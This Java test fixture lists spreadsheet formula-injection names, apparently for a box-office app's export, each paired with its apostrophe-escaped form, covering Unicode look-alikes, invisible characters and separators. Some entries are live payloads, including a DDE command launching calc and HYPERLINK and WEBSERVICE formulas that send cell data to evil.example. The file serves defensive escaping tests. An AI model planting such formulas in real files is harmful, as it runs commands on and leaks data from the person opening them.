package boxoffice.http;

import java.util.List;
import org.junit.jupiter.params.provider.Arguments;

/** Names with which somebody would have an organizer's spreadsheet calculate. */
final class HostileCells {

  /**
   * A name.
   *
   * @param written what the file has instead, before quotes
   */
  record Cell(String name, String written) {}

  static final List<Cell> ALL =
      List.of(
          // what begins a formula
          new Cell("=1+1", "'=1+1"),
          new Cell("+1+1", "'+1+1"),
          new Cell("-1+1", "'-1+1"),
          new Cell("@SUM(1;1)", "'@SUM(1;1)"),
          new Cell("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
          new Cell(
              "=HYPERLINK(\"https://evil.example/?\"&A1;\"Ada\")",
              "'=HYPERLINK(\"https://evil.example/?\"&A1;\"Ada\")"),
          new Cell(
              "=WEBSERVICE(\"https://evil.example/\"&A1)",
              "'=WEBSERVICE(\"https://evil.example/\"&A1)"),
          new Cell("=DDE(\"soffice\";\"x\";\"A1\")", "'=DDE(\"soffice\";\"x\";\"A1\")"),
          new Cell("=", "'="),
          new Cell("-", "'-"),
          // its other forms
          new Cell("\uFF1D1+1", "'\uFF1D1+1"),
          new Cell("\uFF0B1+1", "'\uFF0B1+1"),
          new Cell("\uFF0D1+1", "'\uFF0D1+1"),
          new Cell("\uFF20SUM(1;1)", "'\uFF20SUM(1;1)"),
          new Cell("\uFE661+1", "'\uFE661+1"),
          new Cell("\u22121+1", "'\u22121+1"),
          new Cell("\u207A1", "'\u207A1"),
          // after blanks
          new Cell(" =1+1", " '=1+1"),
          new Cell("   +1+1", "   '+1+1"),
          new Cell("\u00A0=1+1", "\u00A0'=1+1"),
          new Cell("\u3000\uFF1D1+1", "\u3000'\uFF1D1+1"),
          new Cell("\t=1+1", "\t'=1+1"),
          new Cell("\r=1+1", "\r'=1+1"),
          // after what nobody sees
          new Cell("\uFEFF=1+1", "\uFEFF'=1+1"),
          new Cell("\u200B=1+1", "\u200B'=1+1"),
          new Cell("\u202E=1+1", "\u202E'=1+1"),
          new Cell("\u00AD=1+1", "\u00AD'=1+1"),
          new Cell("\u0000=1+1", "\u0000'=1+1"),
          new Cell("\u3164=1+1", "\u3164'=1+1"),
          new Cell("\uFE0F=1+1", "\uFE0F'=1+1"),
          new Cell("\uDB40\uDC20=1+1", "\uDB40\uDC20'=1+1"),
          // after quotes
          new Cell("\"=1+1", "\"'=1+1"),
          new Cell("\"\"=1+1", "\"\"'=1+1"),
          new Cell("'=1+1", "''=1+1"),
          new Cell("\u201C=1+1\u201D", "\u201C'=1+1\u201D"),
          new Cell(" \"\uFEFF=1+1", " \"\uFEFF'=1+1"),
          // after a separator
          new Cell("x;=1+1", "x;'=1+1"),
          new Cell("x,=1+1", "x,'=1+1"),
          new Cell("x\t=1+1", "x\t'=1+1"),
          new Cell("x\n=1+1", "x\n'=1+1"),
          new Cell("x\r\n=1+1", "x\r\n'=1+1"),
          new Cell("x|=1+1", "x|'=1+1"),
          new Cell("x\uFF1B=1+1", "x\uFF1B'=1+1"),
          new Cell("x;\"=1+1", "x;\"'=1+1"),
          new Cell("x\";=1+1", "x\";'=1+1"),
          new Cell("x\",=1+1,\"", "x\",'=1+1,\""),
          new Cell("x; \u200B\uFF1D1+1", "x; \u200B'\uFF1D1+1"),
          new Cell("=1;=2;=3", "'=1;'=2;'=3"),
          new Cell("J\u00FCrgen;=1+1", "J\u00FCrgen;'=1+1"));

  private HostileCells() {}

  static List<Arguments> arguments() {
    return ALL.stream().map(cell -> Arguments.of(cell.name(), cell.written())).toList();
  }
}
